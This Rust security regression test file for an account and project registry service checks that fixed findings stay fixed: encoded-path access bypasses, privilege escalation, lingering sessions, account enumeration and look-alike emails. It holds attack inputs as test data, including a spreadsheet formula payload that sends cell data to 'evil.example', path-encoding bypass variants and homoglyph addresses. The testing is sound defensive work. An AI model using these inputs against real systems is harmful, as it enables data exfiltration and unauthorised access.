//! Security findings of issue 13, each reproduced by a test that failed on
//! `facfb9a` and passes after its fix.

use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::*;

/// Sends `method path` byte for byte (no client-side normalisation of the
/// path, unlike reqwest/url) and returns the status and the body.
pub async fn raw(app: &TestApp, method: &str, path: &str, auth: Option<&str>, body: Option<&str>) -> (u16, String) {
    let addr = app.address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let mut req = format!("{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n");
    if let Some(a) = auth {
        req.push_str(&format!("Authorization: {a}\r\n"));
    }
    let body = body.unwrap_or("");
    if !body.is_empty() || !matches!(method, "GET" | "HEAD" | "DELETE") {
        req.push_str(&format!("Content-Type: application/json\r\nContent-Length: {}\r\n", body.len()));
    }
    req.push_str("\r\n");
    req.push_str(body);
    stream.write_all(req.as_bytes()).await.expect("write");
    let mut out = Vec::new();
    stream.read_to_end(&mut out).await.expect("read");
    let text = String::from_utf8_lossy(&out).into_owned();
    let mut status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    // The web console refuses an anonymous browser with a redirect to the
    // login page: the 401 it stands for.
    let head = text.split("\r\n\r\n").next().unwrap_or("").to_ascii_lowercase();
    if status == 303 && head.contains("\r\nlocation: /login?return_to=") {
        status = 401;
    }
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_string()).unwrap_or_default();
    crate::capture::body(&format!("{method} {path}"), status, &body);
    assert_no_secret_leak(&body);
    (status, body)
}

fn hex(b: u8, upper: bool) -> String {
    if upper {
        format!("%{b:02X}")
    } else {
        format!("%{b:02x}")
    }
}

/// Non-canonical spellings of the concrete path `path` whose static segments
/// are those of `pattern`: each static segment with one character
/// percent-encoded (every position, lower-case hex; the first also upper
/// case and double-encoded), with all characters encoded (lower and upper),
/// plus an encoded slash, a doubled slash, `/./`, a trailing slash and a
/// `;param`.
pub fn variants(pattern: &str, path: &str) -> Vec<String> {
    let pat: Vec<&str> = pattern.split('/').collect();
    let segs: Vec<&str> = path.split('/').collect();
    assert_eq!(pat.len(), segs.len(), "{pattern} vs {path}");
    let join = |v: &[String]| v.join("/");
    let mut out = Vec::new();
    for (i, p) in pat.iter().enumerate() {
        if p.is_empty() || p.starts_with('{') {
            continue;
        }
        let seg = segs[i].as_bytes();
        let mut with = |new: String| {
            let mut v: Vec<String> = segs.iter().map(|s| s.to_string()).collect();
            v[i] = new;
            out.push(join(&v));
        };
        for k in 0..seg.len() {
            let mut s = String::from_utf8_lossy(&seg[..k]).into_owned();
            s.push_str(&hex(seg[k], false));
            s.push_str(&String::from_utf8_lossy(&seg[k + 1..]));
            with(s);
        }
        let rest = String::from_utf8_lossy(&seg[1..]).into_owned();
        with(format!("{}{rest}", hex(seg[0], true)));
        with(format!("%25{:02x}{rest}", seg[0]));
        with(seg.iter().map(|b| hex(*b, false)).collect());
        with(seg.iter().map(|b| hex(*b, true)).collect());
        with(format!("{};x=1", segs[i]));
    }
    // Structural variants around the second separator and at the end.
    let cut = path.match_indices('/').nth(1).map(|(i, _)| i).unwrap_or(0);
    if cut > 0 {
        out.push(format!("{}%2F{}", &path[..cut], &path[cut + 1..]));
        out.push(format!("{}%2f{}", &path[..cut], &path[cut + 1..]));
        out.push(format!("{}//{}", &path[..cut], &path[cut + 1..]));
        out.push(format!("{}/./{}", &path[..cut], &path[cut + 1..]));
    }
    out.push(format!("/{path}"));
    out.push(format!("{path}/"));
    out.push(format!("{path};x=1"));
    out.push(format!("{path}/."));
    out
}

/// Fills a route's path parameters with values that exist.
fn concrete(pattern: &str, target: &str) -> String {
    pattern
        .replace("{username}", target)
        .replace("{role}", "UserManager")
        .replace("{id}", "00000000-0000-0000-0000-000000000001")
        .replace("{project}", "SWEEP")
        .replace("{group}", "SWEEP_member")
        .replace("{par_id}", "1")
        .replace("{flag}", "false")
        .replace("{user}", target)
        .replace("{provider}", "none")
        .replace("{schema}", "xnat")
        .replace("{name}", "none")
}

/// What a test can see of the database's state: every user with roles,
/// groups, sessions and keys, every project and request.
pub(crate) async fn snapshot(app: &TestApp) -> String {
    sqlx::query_scalar(
        "SELECT md5(concat_ws('|',
            (SELECT string_agg(concat_ws(',', id, username, email, first_name, enabled, verified,
                 password_hash, tokens_not_before), ';' ORDER BY id) FROM users),
            (SELECT string_agg(concat_ws(',', user_id, role), ';' ORDER BY user_id, role) FROM user_roles),
            (SELECT string_agg(concat_ws(',', user_id, group_name), ';' ORDER BY user_id, group_name) FROM user_groups),
            (SELECT string_agg(concat_ws(',', id, revoked_at), ';' ORDER BY id) FROM sessions),
            (SELECT string_agg(concat_ws(',', id, revoked_at), ';' ORDER BY id) FROM api_keys),
            (SELECT string_agg(t::text, ';' ORDER BY id) FROM projects t),
            (SELECT string_agg(name, ';' ORDER BY name) FROM groups),
            (SELECT string_agg(t::text, ';' ORDER BY par_id) FROM access_requests t)))",
    )
    .fetch_one(&app.pool)
    .await
    .expect("snapshot")
}

/// Whether `rule` refuses `who` on the sweep's targets (`victim`, project
/// `SWEEP` which only the admin belongs to).
fn refused(who: &str, rule: registrar::auth::access::Rule) -> bool {
    use registrar::auth::access::Rule;
    use registrar::domain::Permission;
    match (who, rule) {
        (_, Rule::Public) => false,
        ("anonymous", _) => true,
        // SCIM takes a provisioning credential: nobody's session or key.
        (_, Rule::Permission(Permission::ScimProvisioning)) => true,
        ("ordinary", Rule::Authenticated) => false,
        ("ordinary", _) => true,
        ("manager", Rule::Permission(Permission::Admin)) => true,
        _ => false,
    }
}

fn denied(status: u16) -> bool {
    matches!(status, 401 | 403)
}

/// Finding 1: a percent-encoded, double-encoded or otherwise non-canonical
/// path never reaches a handler with more access than the plain path. For
/// every route of the table and every caller who is refused the plain path,
/// each variant is refused too or answers 404/405; for reads a permitted
/// caller gets the plain answer or a 404. Nothing in the database changes.
#[tokio::test]
async fn non_canonical_paths_never_widen_access() {
    let app = spawn_app().await;
    let ordinary = app.user("ordinary").await;
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    app.create_user("victim", json!({})).await;
    app.post("/api/v1/projects", &app.admin_token, json!({"id": "SWEEP", "name": "Sweep"})).await.expect(201);
    let before = snapshot(&app).await;
    let table = registrar::startup::route_table();
    let bearer = |t: &str| format!("Bearer {t}");
    let callers: [(&str, Option<String>); 4] = [
        ("anonymous", None),
        ("ordinary", Some(bearer(&ordinary))),
        ("manager", Some(bearer(&manager))),
        ("admin", Some(bearer(&app.admin_token))),
    ];
    let mut cases = 0usize;
    let mut pairs = 0usize;
    let mut failures = Vec::new();
    for (method, pattern, rule) in &table.entries {
        let method = method.as_str();
        let reads = matches!(method, "GET" | "HEAD");
        let path = concrete(pattern, "victim");
        let body = (!reads).then_some("{}");
        for (who, auth) in &callers {
            // Writes are sent only by callers the rule refuses (nothing may change).
            if !reads && !refused(who, *rule) {
                continue;
            }
            let (plain, plain_body) = raw(&app, method, &path, auth.as_deref(), body).await;
            if !reads {
                assert!(denied(plain), "{who} {method} {path} -> {plain}, expected a refusal");
            }
            pairs += 1;
            let vs = variants(pattern, &path);
            let answers =
                futures_util::future::join_all(vs.iter().map(|v| raw(&app, method, v, auth.as_deref(), body))).await;
            for (v, (status, text)) in vs.iter().zip(answers) {
                cases += 1;
                let ok = if denied(plain) {
                    denied(status) || status == 404 || status == 405
                } else {
                    status == plain || denied(status) || status == 404 || status == 405
                };
                if !ok {
                    failures.push(format!(
                        "{who} {method} {v} -> {status} (plain {path} -> {plain}: {}) {}",
                        plain_body.chars().take(60).collect::<String>(),
                        text.chars().take(80).collect::<String>()
                    ));
                }
            }
        }
    }
    println!("non-canonical sweep: {} routes, {pairs} route x caller pairs, {cases} requests", table.entries.len());
    assert!(cases > 5_000, "the sweep ran only {cases} cases");
    assert!(failures.is_empty(), "{} non-canonical requests got more access:\n{}", failures.len(), failures.join("\n"));
    app.settle_auth_cache().await;
    assert_eq!(snapshot(&app).await, before, "the sweep changed the database");
    // The project every variant tried to delete is still there.
    app.get("/api/v1/projects/SWEEP", &app.admin_token).await.expect(200);
}

/// Finding 1, the second line: every non-public handler takes the caller by
/// type, so a handler reached without the guard still refuses anonymous
/// callers. Checked on the handlers' signatures in the source.
#[test]
fn every_non_public_handler_takes_the_caller() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let startup = std::fs::read_to_string(root.join("startup.rs")).expect("startup.rs");
    let mut missing = Vec::new();
    for line in startup.lines().map(str::trim).filter(|l| l.starts_with("r(M::")) {
        // A metrics scrape has no caller: the token is nobody's.
        if line.contains(", Public,") || line.contains(", MetricsToken,") {
            continue;
        }
        let handler = line.rsplit(".to(").next().and_then(|h| h.split(')').next()).expect("handler");
        // `page` is how the route table names the `web` module.
        let path = handler.replacen("page::", "web::", 1);
        let parts: Vec<&str> = path.split("::").collect();
        let (module, func) = (&parts[..parts.len() - 1], parts[parts.len() - 1]);
        let file = if module.len() == 2 {
            root.join(module[0]).join(format!("{}.rs", module[1]))
        } else {
            root.join(module[0]).join("mod.rs")
        };
        let src = std::fs::read_to_string(&file).unwrap_or_else(|_| panic!("{file:?}"));
        let start = src.find(&format!("pub async fn {func}(")).unwrap_or_else(|| panic!("{handler} not in {file:?}"));
        let sig = &src[start..start + src[start..].find('{').expect("body")];
        if !sig.contains("Caller") {
            missing.push(handler.to_string());
        }
    }
    assert!(missing.is_empty(), "non-public handlers that do not take the caller: {missing:?}");
}

#[allow(dead_code)]
fn unused(_: Value, _: Method) {}

/// A body that the route would accept, so that a refusal is the access rule
/// speaking and not the body's validation.
fn valid_body(method: &str, pattern: &str) -> Option<String> {
    let body = match (method, pattern.rsplit('/').next().unwrap_or("")) {
        ("POST", "api-keys") => json!({"name": "stolen"}),
        ("PUT", "password") => json!({"new_password": "another long passphrase for the tests"}),
        ("PATCH", "{username}") => json!({"first_name": "Mallory"}),
        ("PUT", "{username}") => json!({"password": "another long passphrase for the tests", "firstName": "Mallory"}),
        (_, "roles") => json!(["UserManager"]),
        (_, "groups") => json!(["G1"]),
        ("GET" | "HEAD" | "DELETE", _) => return None,
        _ => json!({}),
    };
    Some(body.to_string())
}

/// Finding 2: every write route whose target is a user account, called by
/// a UserManager with an administrator in the `{username}` seat, is refused
/// (403) and changes nothing. On `facfb9a` a UserManager minted an API key
/// for `admin`, reset its password and ended its sessions.
#[tokio::test]
async fn a_user_manager_cannot_act_on_an_administrator() {
    a_user_manager_cannot_act_on_an_administrator_on(spawn_app().await).await;
}

/// The same with `auth.cache = false` (one query per request).
#[tokio::test]
async fn a_user_manager_cannot_act_on_an_administrator_without_auth_cache() {
    a_user_manager_cannot_act_on_an_administrator_on(spawn_app_with(|s| s.auth.cache = false).await).await;
}

async fn a_user_manager_cannot_act_on_an_administrator_on(app: TestApp) {
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    app.post("/api/v1/groups", &app.admin_token, json!({"name": "G1"})).await.expect(201);
    app.post("/api/v1/projects", &app.admin_token, json!({"id": "SWEEP", "name": "Sweep"})).await.expect(201);
    let key =
        app.post("/api/v1/users/admin/api-keys", &app.admin_token, json!({"name": "admin key"})).await.expect(201);
    let key_id = key.json()["id"].as_str().expect("id").to_string();
    let sessions = app.get("/api/v1/users/admin/sessions", &app.admin_token).await.expect(200).json();
    let session_id = sessions["items"][0]["id"].as_str().expect("session id").to_string();
    let admin_id = app.get("/api/v1/users/admin", &app.admin_token).await.expect(200).json()["id"]
        .as_str()
        .expect("id")
        .to_string();
    let before = snapshot(&app).await;
    let auth = format!("Bearer {manager}");
    let mut checked = Vec::new();
    let mut failures = Vec::new();
    // The administrator by name and by id (accepted wherever a name is).
    for (target, (method, pattern, _)) in ["admin", admin_id.as_str()]
        .into_iter()
        .flat_map(|t| registrar::startup::route_table().entries.into_iter().map(move |e| (t, e)))
    {
        let (method, pattern) = (method.as_str(), pattern.as_str());
        let targets_user = pattern.contains("{username}") && !pattern.starts_with("/api/v1/projects/");
        if matches!(method, "GET" | "HEAD") || !(targets_user || pattern == "/api/v1/sessions/{id}") {
            continue;
        }
        let id = if pattern.contains("api-keys") { &key_id } else { &session_id };
        let path = concrete(pattern, target).replace("00000000-0000-0000-0000-000000000001", id);
        let path = if pattern.ends_with("/groups/{group}") { path.replace("SWEEP_member", "G1") } else { path };
        let (status, text) = raw(&app, method, &path, Some(&auth), valid_body(method, pattern).as_deref()).await;
        checked.push(format!("{method} {path}"));
        if status != 403 {
            failures.push(format!("{method} {path} -> {status}: {}", text.chars().take(160).collect::<String>()));
        }
    }
    println!("admin-target sweep: {} write routes", checked.len());
    assert!(checked.len() >= 50, "only {} write routes target a user: {checked:?}", checked.len());
    assert!(failures.is_empty(), "a UserManager acted on an administrator:\n{}", failures.join("\n"));
    app.settle_auth_cache().await;
    assert_eq!(snapshot(&app).await, before, "a refused write changed the database");
    // The administrator's own credentials still work.
    app.get("/api/v1/users/me", &app.admin_token).await.expect(200);
}

fn jsessionid(r: &Resp) -> Option<String> {
    r.headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|c| c.strip_prefix("JSESSIONID=").map(|rest| rest.split(';').next().unwrap_or("").to_string()))
}

/// Finding 3: HTTP Basic with an API key on an XNAT path starts no session,
/// so nothing outlives the key. On `facfb9a` the key's JSESSIONID kept
/// answering `GET /data/auth` after the key was revoked.
#[tokio::test]
async fn nothing_started_from_an_api_key_outlives_it() {
    let app = spawn_app().await;
    let token = app.user("keyholder").await;
    let created = app.post("/api/v1/users/me/api-keys", &token, json!({"name": "xnat script"})).await.expect(201);
    let key = created.json()["key"].as_str().expect("key").to_string();
    let key_id = created.json()["id"].as_str().expect("id").to_string();
    let basic = Auth::Basic("keyholder".into(), key.clone());
    let r = app.send(Method::GET, "/data/JSESSION", &basic, None).await.expect(200);
    let cookie = jsessionid(&r);
    app.delete(&format!("/api/v1/users/me/api-keys/{key_id}"), &token).await.expect(204);
    app.send(Method::GET, "/data/auth", &basic, None).await.expect(401);
    if let Some(c) = &cookie {
        let rb = app.client.get(app.url("/data/auth")).header("Cookie", format!("JSESSIONID={c}"));
        let after = app.exchange("GET /data/auth", rb).await;
        assert_eq!(after.status, 401, "the key's session still works after the key was revoked");
    }
    assert_eq!(cookie, None, "Basic with an API key started a session");
    let sessions = app.count("SELECT count(*) FROM sessions s JOIN users u ON u.id = s.user_id WHERE u.username = 'keyholder' AND s.method = 'basic'").await;
    assert_eq!(sessions, 0);
}

/// Finding 7 (Basic sessions): every cookieless Basic password request on
/// an XNAT path used to open a new 14-day session. Now such sessions live
/// `auth.basic_session_ttl_secs` and a user keeps at most
/// `auth.basic_sessions_per_user` of them.
#[tokio::test]
async fn basic_logins_keep_few_short_sessions() {
    let app = spawn_app().await;
    app.create_user("scripted", json!({})).await;
    let basic = Auth::Basic("scripted".into(), PASSWORD.into());
    for _ in 0..14 {
        app.send(Method::GET, "/data/auth", &basic, None).await.expect(200);
    }
    let live = app
        .count(
            "SELECT count(*) FROM sessions s JOIN users u ON u.id = s.user_id
             WHERE u.username = 'scripted' AND s.revoked_at IS NULL AND s.expires_at > now()",
        )
        .await;
    assert_eq!(live, 10, "live Basic sessions of one user");
    let longest: f64 = sqlx::query_scalar(
        "SELECT max(extract(epoch FROM s.expires_at - s.created_at))::float8 FROM sessions s
         JOIN users u ON u.id = s.user_id WHERE u.username = 'scripted'",
    )
    .fetch_one(&app.pool)
    .await
    .expect("lifetime");
    assert!(longest <= 3601.0, "a Basic session lives {longest} s");
    let capped = app
        .count("SELECT count(*) FROM change_log WHERE action = 'session.revoked' AND changes->>'reason' = 'basic_session_cap'")
        .await;
    assert_eq!(capped, 4);
}

/// Finding 4 (XNAT half): adding a member by email names only the account
/// that verified that address. On `facfb9a` a user who set a colleague's
/// address as their own (unverified) was added to the project in their place.
#[tokio::test]
async fn an_unverified_email_names_nobody() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    let mallory = app.user("mallory").await;
    app.post("/api/v1/projects", &owner, json!({"id": "P", "name": "P"})).await.expect(201);
    app.patch("/api/v1/users/me", &mallory, json!({"email": "colleague@lab.org"})).await.expect(200);
    let r = app.put("/data/projects/P/users/member/colleague@lab.org", &owner, json!(null)).await;
    let level = app
        .count(
            "SELECT count(*) FROM user_groups ug JOIN users u ON u.id = ug.user_id
             WHERE u.username = 'mallory' AND ug.group_name LIKE 'P\\_%'",
        )
        .await;
    assert_eq!(level, 0, "mallory was added in the colleague's place ({}): {}", r.status, r.text);
    r.expect(200);
    // It became an invitation to the address instead.
    assert_eq!(app.count("SELECT count(*) FROM access_requests WHERE kind = 'invitation'").await, 1);
}

/// Finding 5: a lockout stops password guesses and nothing else, and an
/// unknown name answers exactly like a known one. On `facfb9a` eight wrong
/// passwords gave 401x5 then 429x3 for an existing name and 401x8 for an
/// unknown one, and the locked account's JWT and API key were refused.
#[tokio::test]
async fn a_lockout_neither_locks_out_nor_enumerates() {
    let app = spawn_app().await;
    let token = app.user("victim").await;
    let key = app.post("/api/v1/users/me/api-keys", &token, json!({"name": "k"})).await.expect(201).json()["key"]
        .as_str()
        .expect("key")
        .to_string();
    let mut seen = Vec::new();
    for name in ["victim", "nobody-at-all"] {
        let mut statuses = Vec::new();
        for _ in 0..8 {
            let r = app.login_full(name, "a wrong but long passphrase").await;
            if r.status == 429 {
                assert!(r.headers.get("retry-after").is_some(), "429 without Retry-After");
                assert_eq!(r.code(), "account_locked");
            }
            statuses.push(r.status.as_u16());
        }
        seen.push(statuses);
    }
    assert_eq!(seen[0], [401, 401, 401, 401, 401, 429, 429, 429], "known name");
    assert_eq!(seen[1], seen[0], "an unknown name answers differently from a known one");
    // The holder keeps every credential they already had.
    app.get("/api/v1/users/me", &token).await.expect(200);
    app.get("/api/v1/users/me", &key).await.expect(200);
    // The lock itself holds: the right password waits too.
    app.login_full("victim", PASSWORD).await.expect(429);
}

/// Finding 6: minting a credential (an API key, a first password) needs a
/// recent login or the current password; "log out everywhere" can take the
/// API keys with it. On `facfb9a` an hour-old token created a non-expiring
/// key and set a password on a password-less account with any
/// `current_password`.
#[tokio::test]
async fn credentials_need_a_recent_login() {
    let app = spawn_app().await;
    let token = app.user("holder").await;
    sqlx::query("UPDATE sessions SET created_at = now() - interval '1 hour'").execute(&app.pool).await.expect("age");
    app.settle_auth_cache().await;
    let r = app.post("/api/v1/users/me/api-keys", &token, json!({"name": "stolen"})).await;
    assert_eq!(r.status, 403, "an hour-old token minted an API key: {}", r.text);
    assert_eq!(r.code(), "reauthentication_required");
    let wrong = json!({"name": "k", "current_password": "not the password at all"});
    assert_eq!(app.post("/api/v1/users/me/api-keys", &token, wrong).await.expect(403).code(), "wrong_password");
    let ok = json!({"name": "k", "current_password": PASSWORD});
    let key = app.post("/api/v1/users/me/api-keys", &token, ok).await.expect(201).json()["key"]
        .as_str()
        .expect("key")
        .to_string();
    // A key never counts as a recent login.
    let r = app.post("/api/v1/users/me/api-keys", &key, json!({"name": "k2"})).await.expect(403);
    assert_eq!(r.code(), "reauthentication_required");
    assert_eq!(app.count("SELECT count(*) FROM api_keys").await, 1);
    // A password-less (OpenID-only) account: an old session cannot set one.
    sqlx::query("UPDATE users SET password_hash = NULL WHERE username = 'holder'").execute(&app.pool).await.expect("q");
    app.settle_auth_cache().await;
    let body = json!({"current_password": "anything at all here", "new_password": "a brand new long passphrase 7"});
    let r = app.put("/api/v1/users/me/password", &token, body).await;
    assert_eq!(r.status, 403, "an old session set a first password: {}", r.text);
    assert!(app.count("SELECT count(*) FROM users WHERE username = 'holder' AND password_hash IS NULL").await == 1);
    // "Log out everywhere" offers to end the keys as well.
    let r = app.delete("/api/v1/users/holder/sessions?api_keys=true", &app.admin_token).await.expect(200);
    assert_eq!(r.json()["api_keys_revoked"], 1);
    app.get("/api/v1/users/me", &key).await.expect(401);
}

/// The level of `user` in `project`, if any.
async fn level_of(app: &TestApp, user: &str, project: &str) -> Option<String> {
    sqlx::query_scalar(
        "SELECT g.level FROM user_groups ug JOIN groups g ON g.name = ug.group_name JOIN users u ON u.id = ug.user_id
         WHERE u.username = $1 AND ug.project_id = $2",
    )
    .bind(user)
    .bind(project)
    .fetch_optional(&app.pool)
    .await
    .expect("level")
}

/// Finding 7: one membership rule on every path. Nobody joins a project or
/// group, or raises their own level, by managing: not a UserManager, not
/// an administrator, through no route. On `facfb9a` a UserManager refused
/// on the native group route became owner through the XNAT route.
#[tokio::test]
async fn nobody_grants_themselves_a_membership() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    app.post("/api/v1/projects", &owner, json!({"id": "P", "name": "P"})).await.expect(201);
    app.post("/api/v1/groups", &app.admin_token, json!({"name": "plain"})).await.expect(201);
    let attempts: Vec<(&str, Method, &str, Option<Value>)> = vec![
        ("manager", Method::PUT, "/data/projects/P/users/owner/manager", None),
        ("manager", Method::PUT, "/api/v1/projects/P/members/manager", Some(json!({"level": "owner"}))),
        ("manager", Method::PUT, "/api/v1/users/manager/groups/P_owner", None),
        ("manager", Method::PUT, "/xapi/users/manager/groups/P_member", None),
        ("manager", Method::PUT, "/api/v1/users/me/groups", Some(json!(["P_owner"]))),
        ("manager", Method::PUT, "/xapi/users/manager/groups/plain", None),
        ("admin", Method::PUT, "/data/projects/P/users/member/admin", None),
        ("admin", Method::PUT, "/api/v1/projects/P/members/admin", Some(json!({"level": "collaborator"}))),
        ("admin", Method::PUT, "/api/v1/users/admin/groups/plain", None),
    ];
    let mut failures = Vec::new();
    for (who, m, path, body) in attempts {
        let token = if who == "admin" { app.admin_token.clone() } else { manager.clone() };
        let r = app.send(m.clone(), path, &Auth::Bearer(token), body).await;
        let ok = match r.status.as_u16() {
            403 => true,
            // Bulk routes answer per group.
            202 => r.json()["results"][0]["ok"] == false,
            _ => false,
        };
        if !ok {
            failures.push(format!("{who} {m} {path} -> {} {}", r.status, r.text.chars().take(120).collect::<String>()));
        }
    }
    assert!(failures.is_empty(), "self-granted memberships:\n{}", failures.join("\n"));
    assert_eq!(level_of(&app, "manager", "P").await, None);
    assert_eq!(level_of(&app, "admin", "P").await, None);
    assert_eq!(app.count("SELECT count(*) FROM user_groups WHERE group_name = 'plain'").await, 0);
    // Lowering oneself is fine while another owner remains; the last owner stays.
    app.put("/api/v1/projects/P/members/manager", &app.admin_token, json!({"level": "owner"})).await.expect(200);
    app.put("/api/v1/projects/P/members/owner", &owner, json!({"level": "member"})).await.expect(200);
    let r = app.put("/api/v1/projects/P/members/manager", &manager, json!({"level": "member"})).await.expect(409);
    assert_eq!(r.code(), "last_owner");
}

/// Finding 7: deleting the only owner of a project is refused like removing
/// them (409 `last_owner`); on `facfb9a` it left the project ownerless.
#[tokio::test]
async fn the_only_owner_cannot_be_deleted() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    app.post("/api/v1/projects", &owner, json!({"id": "P", "name": "P"})).await.expect(201);
    let r = app.delete("/api/v1/users/owner", &app.admin_token).await;
    assert_eq!(r.status, 409, "deleting the only owner: {}", r.text);
    assert_eq!(r.code(), "last_owner");
    assert_eq!(level_of(&app, "owner", "P").await.as_deref(), Some("owner"));
    app.create_user("heir", json!({})).await;
    app.put("/api/v1/projects/P/members/heir", &owner, json!({"level": "owner"})).await.expect(200);
    app.delete("/api/v1/users/owner", &app.admin_token).await.expect(200);
}

/// Finding 7: one rule for self-destructive actions: nobody disables or
/// deletes their own account through the management routes. On `facfb9a`
/// an administrator could delete (but not disable) itself.
#[tokio::test]
async fn nobody_deletes_their_own_account() {
    let app = spawn_app().await;
    app.create_user("second", json!({"admin": true})).await;
    app.patch("/api/v1/users/admin", &app.admin_token, json!({"enabled": false})).await.expect(403);
    let r = app.delete("/api/v1/users/admin", &app.admin_token).await;
    assert_eq!(r.status, 403, "an administrator deleted itself: {}", r.text);
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    app.delete("/api/v1/users/me", &manager).await.expect(403);
    assert_eq!(app.count("SELECT count(*) FROM users WHERE username IN ('admin', 'manager')").await, 2);
}

/// (login, email) rows of `/data/users?format=csv` as `token` sees them.
async fn directory(app: &TestApp, token: &str) -> Vec<(String, String)> {
    let csv_text = app.get("/data/users?format=csv", token).await.expect(200).text;
    let mut rd = csv::Reader::from_reader(csv_text.as_bytes());
    rd.records().map(|r| r.expect("row")).map(|r| (r[1].to_string(), r[4].to_string())).collect()
}

/// Finding 7: one directory rule for every front end. By default an
/// ordinary user sees the people they share a project with, without their
/// emails. On `facfb9a` any caller (any API key) got every account's name
/// and email from `GET /data/users?format=csv`.
#[tokio::test]
async fn ordinary_users_see_only_their_collaborators() {
    let app = spawn_app().await;
    let alice = app.user("alice").await;
    app.create_user("bob", json!({})).await;
    app.create_user("carol", json!({})).await;
    app.post("/api/v1/projects", &alice, json!({"id": "P", "name": "P"})).await.expect(201);
    app.put("/api/v1/projects/P/members/bob", &alice, json!({"level": "member"})).await.expect(200);
    let seen = directory(&app, &alice).await;
    assert_eq!(
        seen,
        [("alice".to_string(), "alice@example.org".to_string()), ("bob".to_string(), String::new())],
        "what an ordinary user sees of the directory"
    );
    let members = app.get("/api/v1/projects/P/members", &alice).await.expect(200).json();
    let bob = members["items"].as_array().expect("items").iter().find(|m| m["username"] == "bob").expect("bob").clone();
    assert_eq!(bob["email"], "");
    let xnat = app.get("/data/projects/P/users?format=json", &alice).await.expect(200).text;
    assert!(!xnat.contains("bob@example.org"), "{xnat}");
    // USER_MANAGEMENT sees everyone with emails.
    let all = directory(&app, &app.admin_token).await;
    assert_eq!(all.len(), 4);
    assert!(all.contains(&("carol".to_string(), "carol@example.org".to_string())));
}

/// XNAT's own directory (everyone, with emails) is one setting away.
#[tokio::test]
async fn directory_visibility_is_one_setting() {
    let open = spawn_app_with(|s| s.directory.visibility = registrar::config::Visibility::AllWithEmail).await;
    let dave = open.user("dave").await;
    open.create_user("erin", json!({})).await;
    assert!(directory(&open, &dave).await.contains(&("erin".to_string(), "erin@example.org".to_string())));
}

/// Finding 9: CSV exports neutralise cells a spreadsheet would run as a
/// formula. On `facfb9a` a first name of `=HYPERLINK(...)` came out as a
/// formula cell of `/data/users?format=csv`.
#[tokio::test]
async fn csv_cells_are_never_formulas() {
    let app = spawn_app().await;
    let t = app.user("mallory").await;
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";
    app.patch("/api/v1/users/me", &t, json!({"first_name": evil, "last_name": "+1-2"})).await.expect(200);
    let csv_text = app.get("/data/users?format=csv", &app.admin_token).await.expect(200).text;
    let mut rd = csv::Reader::from_reader(csv_text.as_bytes());
    let row = rd.records().map(|r| r.expect("row")).find(|r| &r[1] == "mallory").expect("mallory");
    assert_eq!(&row[2], format!("'{evil}"), "a formula cell: {csv_text}");
    assert_eq!(&row[3], "'+1-2");
}

/// Finding 8: one canonical email form, compared by the server and never by
/// PostgreSQL's `lower()`. On `facfb9a` an account created as
/// `\u{212A}ay@kit.example` (KELVIN SIGN) took `kay@kit.example`'s email
/// invitation, and the real Kay could no longer register (409).
#[tokio::test]
async fn lookalike_emails_collide_with_nobody() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    app.post("/api/v1/projects", &owner, json!({"id": "KIT", "name": "KIT"})).await.expect(201);
    app.post("/api/v1/projects/KIT/access-requests", &owner, json!({"email": "kay@kit.example", "level": "owner"}))
        .await
        .expect(201);
    let mut refused = Vec::new();
    for (name, email) in [
        ("kelvin", "\u{212A}ay@kit.example"),
        ("zwsp", "k\u{200B}ay@kit.example"),
        ("bidi", "kay@kit.ex\u{202E}ample"),
        ("fullwidth", "\u{FF4B}ay@kit.example"),
        ("nonchar", "kay\u{FFFF}@kit.example"),
        ("cgj", "ka\u{34F}y@kit.example"),
        ("cyrillic", "k\u{430}y@kit.example"),
        ("braille", "k\u{2800}ay@kit.example"),
    ] {
        let body = json!({"username": name, "email": email, "password": PASSWORD, "verified": true});
        let r = app.post("/api/v1/users", &app.admin_token, body).await;
        refused.push((name, r.status.as_u16(), r.code()));
    }
    assert!(
        refused.iter().all(|(_, status, code)| *status == 422 && code == "invalid_email"),
        "look-alike addresses were accepted: {refused:?}"
    );
    assert_eq!(app.count("SELECT count(*) FROM access_requests WHERE user_id IS NOT NULL").await, 0);
    // The real Kay registers and gets the invitation; case does not matter.
    let kay = json!({"username": "kay", "email": "Kay@KIT.example", "password": PASSWORD, "verified": true});
    app.post("/api/v1/users", &app.admin_token, kay).await.expect(201);
    assert_eq!(app.count("SELECT count(*) FROM access_requests WHERE user_id IS NOT NULL").await, 1);
    let dup = json!({"username": "kay2", "email": "kay@kit.EXAMPLE", "password": PASSWORD});
    assert_eq!(app.post("/api/v1/users", &app.admin_token, dup).await.expect(409).code(), "email_taken");
    // İ and i stay apart (PostgreSQL's lower() folds İ to i).
    let dotted = json!({"username": "dotted", "email": "\u{130}x@kit.example", "password": PASSWORD});
    app.post("/api/v1/users", &app.admin_token, dotted).await.expect(201);
    let plain = json!({"username": "plain", "email": "ix@kit.example", "password": PASSWORD});
    app.post("/api/v1/users", &app.admin_token, plain).await.expect(201);
    // A name with U+FFFF would break the XML of every export: refused.
    let r = app.patch("/api/v1/users/plain", &app.admin_token, json!({"first_name": "a\u{FFFF}b"})).await;
    assert_eq!(r.status, 422, "{}", r.text);
    // Logins do not fold either: `\u{130}` is not `i`, U+212A is not `k`.
    app.login_full("plaİn", PASSWORD).await.expect(401);
    app.login_full("\u{212A}ay", PASSWORD).await.expect(401);
